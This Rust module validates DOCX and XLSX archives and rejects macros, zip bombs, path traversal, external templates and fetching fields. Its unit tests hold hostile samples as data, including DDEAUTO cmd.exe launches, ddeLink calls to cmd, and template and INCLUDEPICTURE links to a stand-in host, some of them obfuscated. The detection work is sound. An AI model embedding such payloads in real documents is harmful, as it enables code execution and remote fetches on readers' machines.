//! DOCX and XLSX: the directory of the archive is read, and of its parts only the content types and the relationships.

use klisida_domain::{evidence::FileKind, problem::Code};

use quick_xml::{
    Reader, XmlVersion,
    events::{BytesStart, Event},
};

use super::{Meter, find, inflate, take, u16_le, u32_le};

/// Most parts of a document.
const PARTS: usize = 2_000;
/// Most bytes of all parts unpacked.
const UNPACKED: usize = 100 * 1024 * 1024;
/// A part larger than a megabyte unpacks to at most so many times its packed size.
const RATIO: usize = 200;
/// Most bytes of a part that is looked into.
const LOOKED: usize = 1024 * 1024;
/// Most bytes of all relationships.
const ALL_LOOKED: usize = 8 * 1024 * 1024;

/// Most attributes of a tag.
const ATTRIBUTES: usize = 100;
/// So much of a field is read, and no more: a longer first word is none that is known.
const FIELD: usize = 100;
/// Most bytes of the texts of a document, together.
const ALL_TEXTS: usize = 16 * 1024 * 1024;

const BROKEN: Code = Code::FileBroken;
const DIRECTORY_END: &[u8; 4] = b"PK\x05\x06";
const OLD_OFFICE: &[u8; 8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1";
const DOCX: &str =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";

/// A part, as the directory describes it.
struct Part<'a> {
    name: &'a str,
    method: usize,
    size: usize,
    data: &'a [u8],
}

/// Is it such a document, with nothing in it that acts or leads outside?
pub fn check(bytes: &[u8], kind: FileKind, meter: &mut Meter) -> Result<(), Code> {
    if bytes.starts_with(OLD_OFFICE) {
        // A document under a password lies as a whole in a container of the old kind.
        let locked: Vec<u8> = "EncryptedPackage"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        return Err(if find(bytes, &locked, 0, meter)?.is_some() {
            Code::FileEncrypted
        } else {
            Code::FileMismatch
        });
    }
    if !bytes.starts_with(b"PK\x03\x04") {
        return Err(Code::FileMismatch);
    }
    let parts = directory(bytes, meter)?;
    for part in &parts {
        if acts(&part.name.to_ascii_lowercase()) {
            return Err(Code::FileActive);
        }
    }
    let types = parts
        .iter()
        .find(|part| part.name.eq_ignore_ascii_case("[Content_Types].xml"))
        .ok_or(Code::FileMismatch)?;
    let texts = content_types(&read(types, LOOKED, meter)?, kind, &parts, meter)?;
    let mut left = ALL_LOOKED;
    for part in &parts {
        if part.name.to_ascii_lowercase().ends_with(".rels") {
            left = left.checked_sub(part.size).ok_or(Code::FileBomb)?;
            relationships(&read(part, LOOKED, meter)?, meter)?;
        }
    }
    let mut left = ALL_TEXTS;
    for part in &parts {
        let name = part.name.to_ascii_lowercase();
        if may_hold_fields(&name) || texts.hold(&name, meter)? {
            left = left.checked_sub(part.size).ok_or(Code::FileBomb)?;
            fields(&read(part, ALL_TEXTS, meter)?, meter)?;
        }
    }
    Ok(())
}

/// The parts that the directory lists; what it says must be true of the parts themselves.
fn directory<'a>(bytes: &'a [u8], meter: &mut Meter) -> Result<Vec<Part<'a>>, Code> {
    meter.visit(bytes.len().min(usize::from(u16::MAX)))?;
    let end = directory_end(bytes).ok_or(BROKEN)?;
    let count = u16_le(bytes, end + 10).ok_or(BROKEN)?;
    let size = u32_le(bytes, end + 12).ok_or(BROKEN)?;
    let start = u32_le(bytes, end + 16).ok_or(BROKEN)?;
    if start.checked_add(size) != Some(end) || count == 0 {
        return Err(BROKEN);
    }
    if count > PARTS {
        return Err(Code::FileBomb);
    }
    let mut parts = Vec::with_capacity(count);
    let (mut at, mut packed_all, mut unpacked_all) = (start, 0_usize, 0_usize);
    for _ in 0..count {
        if take::<4>(bytes, at).as_ref() != Some(b"PK\x01\x02") {
            return Err(BROKEN);
        }
        let short = |offset: usize| u16_le(bytes, at + offset).ok_or(BROKEN);
        let long = |offset: usize| u32_le(bytes, at + offset).ok_or(BROKEN);
        let (made_by, flags, method) = (short(4)?, short(8)?, short(10)?);
        let (packed, unpacked) = (long(20)?, long(24)?);
        let (name_length, extra, comment) = (short(28)?, short(30)?, short(32)?);
        let (attributes, offset) = (long(38)?, long(42)?);
        let name = bytes
            .get(at + 46..at + 46 + name_length)
            .and_then(|it| core::str::from_utf8(it).ok())
            .ok_or(BROKEN)?;
        at += 46 + name_length + extra + comment;
        // Looked at here, in the part, for what acts, and twice when all are compared.
        meter.visit(46 + 5 * name_length)?;

        if flags & 0x2001 != 0 {
            return Err(Code::FileEncrypted);
        }
        let link = made_by >> 8 == 3 && attributes >> 28 == 0xa;
        if link || leads_outside(name) {
            return Err(Code::FileActive);
        }
        unpacked_all = unpacked_all.saturating_add(unpacked);
        packed_all = packed_all.saturating_add(packed);
        let flood = unpacked > LOOKED && unpacked / RATIO > packed;
        if flood || unpacked_all > UNPACKED {
            return Err(Code::FileBomb);
        }
        // The part itself must agree, or a reader that trusts it would see another document.
        let own = |at: usize| u16_le(bytes, offset.checked_add(at)?);
        let header = own(26).zip(own(28)).ok_or(BROKEN)?;
        let own_name = bytes.get(offset + 30..offset + 30 + header.0);
        let data_at = offset + 30 + header.0 + header.1;
        let data = bytes.get(data_at..data_at.saturating_add(packed));
        let agrees = take::<4>(bytes, offset).as_ref() == Some(b"PK\x03\x04")
            && own(8) == Some(method)
            && own_name == Some(name.as_bytes())
            && matches!(method, 0 | 8)
            && (method == 8 || packed == unpacked)
            && data_at.saturating_add(packed) <= start;
        let data = data.filter(|_| agrees).ok_or(BROKEN)?;
        parts.push(Part {
            name,
            method,
            size: unpacked,
            data,
        });
    }
    // Parts that lie over each other are a bomb with an innocent directory.
    if at != end || packed_all > start {
        return Err(BROKEN);
    }
    let mut names: Vec<_> = parts
        .iter()
        .map(|part| part.name.to_ascii_lowercase())
        .collect();
    names.sort();
    names.dedup();
    if names.len() == parts.len() {
        Ok(parts)
    } else {
        Err(BROKEN)
    }
}

/// Where the end of the directory stands: the last one whose comment ends with the file.
fn directory_end(bytes: &[u8]) -> Option<usize> {
    let last = bytes.len().checked_sub(22)?;
    let first = last.saturating_sub(usize::from(u16::MAX));
    (first..=last).rev().find(|at| {
        take::<4>(bytes, *at).as_ref() == Some(DIRECTORY_END)
            && u16_le(bytes, at + 20).is_some_and(|comment| at + 22 + comment == bytes.len())
    })
}

/// A path that could be unpacked elsewhere.
fn leads_outside(name: &str) -> bool {
    name.is_empty()
        || name.starts_with('/')
        || name.contains(['\\', ':'])
        || name.chars().any(char::is_control)
        || name.split('/').any(|part| part == "..")
}

/// A part that acts by itself: macros, controls, packed programs. `name` in lower case.
fn acts(name: &str) -> bool {
    let file = name.rsplit('/').next().unwrap_or_default();
    file.starts_with("vbaproject")
        || file.starts_with("vbadata")
        || name.contains("activex/")
        || name.contains("macrosheets/")
        || (name.contains("embeddings/") && !name.ends_with('/') && !is_plain(file))
}

/// A part of a text that can hold fields, or a link of a workbook to another program. `name` in lower case.
fn may_hold_fields(name: &str) -> bool {
    let xml = name.rsplit('.').next() == Some("xml");
    xml && (name.starts_with("word/") || name.contains("externallinks/"))
}

/// The parts that the list of contents calls text or a link to a program, wherever they lie: programs go by it and not by names.
#[derive(Default)]
struct Texts {
    /// Names in lower case.
    names: Vec<String>,
    /// Endings in lower case.
    endings: Vec<String>,
}

impl Texts {
    /// `name` in lower case.
    fn hold(&self, name: &str, meter: &mut Meter) -> Result<bool, Code> {
        meter.visit(name.len() + self.names.len() + self.endings.len())?;
        let ending = name.rsplit('.').next().unwrap_or_default();
        Ok(self.names.iter().any(|it| it == name) || self.endings.iter().any(|it| it == ending))
    }
}

/// What such a part is called in the list of contents.
fn is_text(content_type: &str) -> bool {
    let small = content_type.to_ascii_lowercase();
    small.contains("wordprocessingml") || small.contains("externallink")
}

/// Charts carry their figures as a workbook.
fn is_plain(file: &str) -> bool {
    let ending = file.rsplit('.').next().unwrap_or_default();
    matches!(ending, "xlsx" | "docx" | "rels")
}

/// A part as text. No document types and entities: nothing of ours resolves them, and nobody else shall (D14).
fn read(part: &Part<'_>, most: usize, meter: &mut Meter) -> Result<String, Code> {
    if part.size > most {
        return Err(Code::FileBomb);
    }
    let content = if part.method == 0 {
        meter.visit(part.data.len())?;
        part.data.to_vec()
    } else {
        inflate(part.data, false, part.size, meter)?
    };
    // Is it text, a zero, a document type, an entity?
    meter.visit(content.len().saturating_mul(4))?;
    if content.len() != part.size {
        return Err(BROKEN);
    }
    let text = String::from_utf8(content).map_err(|_| BROKEN)?;
    if text.contains('\0') {
        return Err(BROKEN);
    }
    if text.contains("<!DOCTYPE") || text.contains("<!ENTITY") {
        return Err(Code::FileActive);
    }
    Ok(text)
}

/// The main part is of the announced kind, and is there; no part is a macro.
fn content_types(
    text: &str,
    kind: FileKind,
    parts: &[Part<'_>],
    meter: &mut Meter,
) -> Result<Texts, Code> {
    // In small letters, three words, the tags.
    meter.visit(text.len().saturating_mul(6))?;
    let small = text.to_ascii_lowercase();
    if ["macroenabled", "vbaproject", "activex"]
        .iter()
        .any(|word| small.contains(word))
    {
        return Err(Code::FileActive);
    }
    let main = if kind == FileKind::Docx { DOCX } else { XLSX };
    let mut found = false;
    let mut texts = Texts::default();
    for tag in tags(text)? {
        let content_type = tag.value("ContentType")?.unwrap_or_default();
        let part = tag.value("PartName")?.unwrap_or_default();
        let part = part.trim_start_matches('/');
        if is_text(content_type) {
            let ending = tag.value("Extension")?.unwrap_or_default();
            texts.names.push(part.to_ascii_lowercase());
            texts.endings.push(ending.to_ascii_lowercase());
        }
        if tag.is("Override") && content_type == main {
            if found {
                // Two main parts: readers would not show the same document.
                return Err(BROKEN);
            }
            meter.visit(parts.len())?;
            found = parts.iter().any(|it| it.name.eq_ignore_ascii_case(part));
            if !found {
                return Err(Code::FileMismatch);
            }
        }
    }
    if found {
        texts.endings.retain(|it| !it.is_empty());
        Ok(texts)
    } else {
        Err(Code::FileMismatch)
    }
}

/// Only hyperlinks, which somebody must press, may lead out of the document (F03).
fn relationships(text: &str, meter: &mut Meter) -> Result<(), Code> {
    meter.visit(text.len().saturating_mul(4))?;
    for tag in tags(text)? {
        if !tag.is("Relationship") {
            continue;
        }
        let inside = tag.value("TargetMode")?.is_none_or(|it| it == "Internal");
        let target = tag.value("Target")?.unwrap_or_default();
        let elsewhere = target.contains("://") || target.starts_with("\\\\");
        let kind = tag.value("Type")?.unwrap_or_default();
        let is = |what: &str| kind.ends_with(what);
        // Another document, taken in when this one is opened: nobody looks into it.
        if kind.to_ascii_lowercase().ends_with("/afchunk") {
            return Err(Code::FileActive);
        }
        let near = is("/hyperlink") || is("/attachedTemplate") && is_local(target);
        if !near && (!inside || elsewhere) {
            return Err(Code::FileActive);
        }
    }
    Ok(())
}

/// A template on the disk of whoever wrote the document, as Word notes it: nothing is fetched by it. A share or a server
/// is none, in whatever signs.
fn is_local(target: &str) -> bool {
    let path = target.strip_prefix("file:///").unwrap_or(target);
    if let [drive, b':', b'\\' | b'/', rest @ ..] = path.as_bytes() {
        return drive.is_ascii_alphabetic() && !matches!(rest, [b'\\' | b'/', ..]);
    }
    // A name alone, with no sign that could stand for another.
    let plain = target.replace("%20", " ");
    !target.is_empty() && !plain.contains(['/', '\\', ':', '&', '%'])
}

/// A tag with its attributes, references resolved.
struct Tag {
    name: String,
    attributes: Vec<(String, String)>,
}

impl Tag {
    fn of(tag: &BytesStart<'_>) -> Result<Self, Code> {
        let mut attributes = Vec::new();
        // Each name is compared with all before it.
        for attribute in tag.attributes() {
            let attribute = attribute.map_err(|_| BROKEN)?;
            let value = attribute.normalized_value(XmlVersion::Implicit1_0);
            let value = value.map_err(|_| BROKEN)?.into_owned();
            attributes.push((attribute.key.0.to_owned(), value));
            if attributes.len() > ATTRIBUTES {
                return Err(Code::FileBomb);
            }
        }
        Ok(Self {
            name: tag.name().0.to_owned(),
            attributes,
        })
    }

    fn is(&self, name: &str) -> bool {
        bare(&self.name) == name
    }

    /// The value of an attribute, whatever stands before its colon. Two of one name would let us read one and another program
    /// the other: such a document is refused.
    fn value(&self, name: &str) -> Result<Option<&str>, Code> {
        let mut all = self.attributes.iter().filter(|(at, _)| bare(at) == name);
        let first = all.next().map(|(_, value)| value.as_str());
        if all.next().is_some() {
            return Err(BROKEN);
        }
        Ok(first)
    }
}

fn bare(name: &str) -> &str {
    name.rsplit(':').next().unwrap_or_default()
}

/// What a part says, in its order.
enum Said {
    Open(Tag),
    Text(String),
    Close(String),
}

/// Reads a part to its end; what is no XML is refused, and so is a document type.
fn walk(text: &str, mut each: impl FnMut(Said) -> Result<(), Code>) -> Result<(), Code> {
    let mut reader = Reader::from_str(text);
    loop {
        match reader.read_event().map_err(|_| BROKEN)? {
            Event::Eof => return Ok(()),
            Event::DocType(_) => return Err(Code::FileActive),
            Event::Start(tag) => each(Said::Open(Tag::of(&tag)?))?,
            Event::Empty(tag) => {
                let tag = Tag::of(&tag)?;
                let name = tag.name.clone();
                each(Said::Open(tag))?;
                each(Said::Close(name))?;
            }
            Event::End(tag) => each(Said::Close(tag.name().0.to_owned()))?,
            Event::Text(text) => each(Said::Text(text.xml10_content().into_owned()))?,
            Event::CData(text) => each(Said::Text(text.xml10_content().into_owned()))?,
            Event::GeneralRef(name) => {
                let sign = name.resolve_char_ref().map_err(|_| BROKEN)?;
                let text = sign.map_or_else(
                    || quick_xml::escape::resolve_predefined_entity(&name).map(str::to_owned),
                    |sign| Some(sign.to_string()),
                );
                each(Said::Text(text.ok_or(BROKEN)?))?;
            }
            Event::Comment(_) | Event::Decl(_) | Event::PI(_) => {}
        }
    }
}

/// The tags of a text that begin an element.
fn tags(text: &str) -> Result<Vec<Tag>, Code> {
    let mut tags = Vec::new();
    walk(text, |said| {
        if let Said::Open(tag) = said {
            tags.push(tag);
        }
        Ok(())
    })?;
    Ok(tags)
}

/// Fields that bring something in from elsewhere when the document is opened or printed.
const FETCHING: [&str; 9] = [
    "INCLUDEPICTURE",
    "INCLUDETEXT",
    "INCLUDE",
    "IMPORT",
    "DDE",
    "DDEAUTO",
    "LINK",
    "RD",
    "DATABASE",
];

/// The first word of a field decides what it does.
fn may_stand(field: &str) -> Result<(), Code> {
    let field = field.trim_start();
    let end = field.find(|c: char| !c.is_ascii_alphabetic());
    let word = field.get(..end.unwrap_or(field.len())).unwrap_or_default();
    if FETCHING.iter().any(|it| it.eq_ignore_ascii_case(word)) {
        return Err(Code::FileActive);
    }
    Ok(())
}

/// No field of a text and no link of a table fetches. A field may be cut into many runs; one whose first word is made by
/// another field is refused, for nobody knows what it will be.
fn fields(text: &str, meter: &mut Meter) -> Result<(), Code> {
    meter.visit(text.len().saturating_mul(4))?;
    // Fields that are open: what was said of each, while it is being said.
    let mut open: Vec<Option<String>> = Vec::new();
    let mut instruction = false;
    walk(text, |said| {
        match said {
            Said::Open(tag) if tag.is("ddeLink") || tag.is("oleLink") => {
                return Err(Code::FileActive);
            }
            Said::Open(tag) if tag.is("fldSimple") => {
                may_stand(tag.value("instr")?.unwrap_or(""))?;
            }
            Said::Open(tag) if tag.is("fldChar") => match tag.value("fldCharType")? {
                Some("begin") => {
                    let unsaid = |it: &String| !it.contains(char::is_whitespace);
                    if matches!(open.last(), Some(Some(said)) if unsaid(said)) {
                        return Err(Code::FileActive);
                    }
                    open.push(Some(String::new()));
                }
                Some("separate") => {
                    if let Some(said) = open.last_mut().and_then(Option::take) {
                        may_stand(&said)?;
                    }
                }
                _ => {
                    if let Some(said) = open.pop().flatten() {
                        may_stand(&said)?;
                    }
                }
            },
            Said::Open(tag) => instruction = tag.is("instrText"),
            Said::Close(name) if bare(&name) == "instrText" => instruction = false,
            Said::Text(text) if instruction => match open.last_mut() {
                // Its beginning is enough, and is looked at again for each field inside.
                Some(Some(said)) if said.is_empty() => said.push_str(text.trim_start()),
                Some(Some(said)) if said.len() < FIELD => said.push_str(&text),
                Some(Some(_)) => {}
                _ => may_stand(&text)?,
            },
            Said::Close(_) | Said::Text(_) => {}
        }
        Ok(())
    })?;
    // A field without an end is one all the same.
    open.iter().flatten().try_for_each(|said| may_stand(said))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_hyperlinks_lead_out_f03() {
        let with = |attributes: &str| {
            let text = format!(
                "<?xml version='1.0'?><Relationships><!-- > --><Relationship Id=\"r1\" {attributes}/></Relationships>"
            );
            relationships(&text, &mut Meter::of(text.as_bytes()))
        };
        assert_eq!(with("Type='x/styles' Target='styles.xml'"), Ok(()));
        assert_eq!(
            with("Type='x/hyperlink' Target='https://contoh.example' TargetMode='External'"),
            Ok(())
        );
        for near in [
            "file:///C:\\Users\\a\\Kop%20Surat.dotx",
            "C:/x.dotx",
            "Normal.dotm",
        ] {
            let near = [
                "Type='x/attachedTemplate' TargetMode='External' Target='",
                near,
                "'",
            ];
            assert_eq!(with(&near.concat()), Ok(()));
        }
        for bad in [
            "Type='x/attachedTemplate' Target='https://jahat.example/t.dotm' TargetMode='External'",
            "Type='x/attachedTemplate' Target='file:///\\\\jahat.example\\t.dotx' TargetMode='External'",
            "Type='x/attachedTemplate' Target='file:////jahat.example/t.dotx' TargetMode='External'",
            "Type='x/attachedTemplate' Target='\\\\jahat\\t.dotx' TargetMode='External'",
            "Type='x/attachedTemplate' Target='%2F%2Fjahat%2Ft.dotx' TargetMode='External'",
            "Type='x/attachedTemplate' Target='%5C%5Cjahat%5Ct.dotx' TargetMode='External'",
            "Type='x/attachedTemplate' Target='&#104;ttps:&#47;/x' TargetMode='External'",
            "Type='x/image' Target='file:///C:\\x.png' TargetMode='External'",
            "Type='x/image' Target='\\\\jahat\\x.png' TargetMode = \"External\"",
            "Type='x/image' Target='file:///c:/x' TargetMode='&#69;xternal'",
            "Type='x/image' Target='&#92;&#92;jahat&#92;x.png'",
            "Type='x/oleObject' Target='http://jahat.example/x'",
        ] {
            assert_eq!(with(bad), Err(Code::FileActive), "{bad}");
        }
        assert_eq!(with("Type='x"), Err(BROKEN));
        assert_eq!(
            with("Type='x/aFChunk' Target='chunk.rtf'"),
            Err(Code::FileActive)
        );
    }

    #[test]
    fn an_attribute_of_another_namespace_hides_none_f03() {
        for twice in [
            "x:Target='a.png' x:TargetMode='Internal' Type='x/image' Target='http://jahat.example/x.png' TargetMode='External'",
            "x:Type='x/hyperlink' Type='x/image' Target='http://jahat.example/x.png' TargetMode='External'",
        ] {
            let text =
                format!("<Relationships xmlns:x='x'><Relationship {twice}/></Relationships>");
            let found = relationships(&text, &mut Meter::of(text.as_bytes()));
            assert_eq!(found, Err(BROKEN), "{twice}");
        }
        let text = "<w:p xmlns:w='w' xmlns:x='x'><w:fldSimple x:instr='PAGE' w:instr='DDEAUTO cmd'/></w:p>";
        assert_eq!(fields(text, &mut Meter::of(text.as_bytes())), Err(BROKEN));
    }

    #[test]
    fn what_holds_fields_is_what_the_list_of_contents_calls_a_text_f03() {
        let text = "<Types><Default Extension='FOO' ContentType='x/vnd.wordprocessingml.footnotes+xml'/>
            <Override PartName='/X/Main.xml' ContentType='application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'/>
            <Override PartName='/xl/l/1.bin' ContentType='x/vnd.spreadsheetml.externalLink+xml'/></Types>";
        let parts = [Part {
            name: "x/main.xml",
            method: 0,
            size: 0,
            data: &[],
        }];
        let mut meter = Meter::of(text.as_bytes());
        let texts = content_types(text, FileKind::Docx, &parts, &mut meter).unwrap();
        for (name, held) in [
            ("x/main.xml", true),
            ("xl/l/1.bin", true),
            ("word/notes.foo", true),
            ("docprops/core.xml", false),
        ] {
            assert_eq!(texts.hold(name, &mut meter), Ok(held), "{name}");
        }
    }

    #[test]
    fn no_field_fetches_from_outside_f03() {
        let with = |inside: &str| {
            let text = format!("<w:document xmlns:w='w'><w:p>{inside}</w:p></w:document>");
            fields(&text, &mut Meter::of(text.as_bytes()))
        };
        let sign = |kind: &str| format!("<w:r><w:fldChar w:fldCharType='{kind}'/></w:r>");
        let field = |inside: &str| {
            let (begin, part, end) = (sign("begin"), sign("separate"), sign("end"));
            with(&format!("{begin}{inside}{part}<w:t>x</w:t>{end}"))
        };
        let run = |text: &str| format!("<w:r><w:instrText>{text}</w:instrText></w:r>");
        for fine in [
            " PAGE ",
            " HYPERLINK \"https://contoh.example\" ",
            "TOC \\o \"1-3\"",
            " REF INCLUDEPICTURE ",
        ] {
            assert_eq!(field(&run(fine)), Ok(()), "{fine}");
        }
        assert_eq!(with("<w:t>INCLUDEPICTURE DDE</w:t>"), Ok(()));
        for bad in [
            " INCLUDEPICTURE \"https://jahat.example/x.png\" \\d",
            "IncludeText \"\\\\jahat\\x.docx\"",
            "DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\"",
            "DDE\"cmd\"",
            "&#68;DE cmd",
            "LINK Excel.Sheet.12 \"http://jahat.example/x.xlsx\"",
        ] {
            assert_eq!(field(&run(bad)), Err(Code::FileActive), "{bad}");
        }
        let cut = ["INCLUDE", "PICTURE \"http://jahat.example\""].map(run);
        assert_eq!(field(&cut.concat()), Err(Code::FileActive));
        let unclosed = sign("begin") + &run("DDEAUTO cmd");
        assert_eq!(with(&unclosed), Err(Code::FileActive));
        let made = [sign("begin"), run("QUOTE 68 68 69"), sign("end")].concat();
        assert_eq!(field(&made), Err(Code::FileActive));
        assert_eq!(field(&(run(" IF ") + &made)), Ok(()));
        assert_eq!(
            with("<w:fldSimple w:instr=' INCLUDEPICTURE \"http://x\"'/>"),
            Err(Code::FileActive)
        );
    }

    #[test]
    fn no_table_is_linked_to_a_program_f03() {
        let text = "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>";
        assert_eq!(
            fields(text, &mut Meter::of(text.as_bytes())),
            Err(Code::FileActive)
        );
        assert!(may_hold_fields("xl/externallinks/externallink1.xml"));
        assert!(may_hold_fields("word/header2.xml"));
    }

    #[test]
    fn paths_stay_inside_and_programs_outside_f03() {
        for bad in [
            "../x",
            "/etc/x",
            "word/../../x",
            "c:/x",
            "word\\x",
            "a\0b",
            "",
        ] {
            assert!(leads_outside(bad), "{bad}");
        }
        assert!(!leads_outside("word/media/image..1.png"));
        for bad in [
            "word/vbaproject.bin",
            "xl/activex/activex1.bin",
            "word/embeddings/oleobject1.bin",
            "xl/macrosheets/sheet1.xml",
        ] {
            assert!(acts(bad), "{bad}");
        }
        assert!(!acts("word/embeddings/microsoft_excel_sheet1.xlsx"));
    }
}
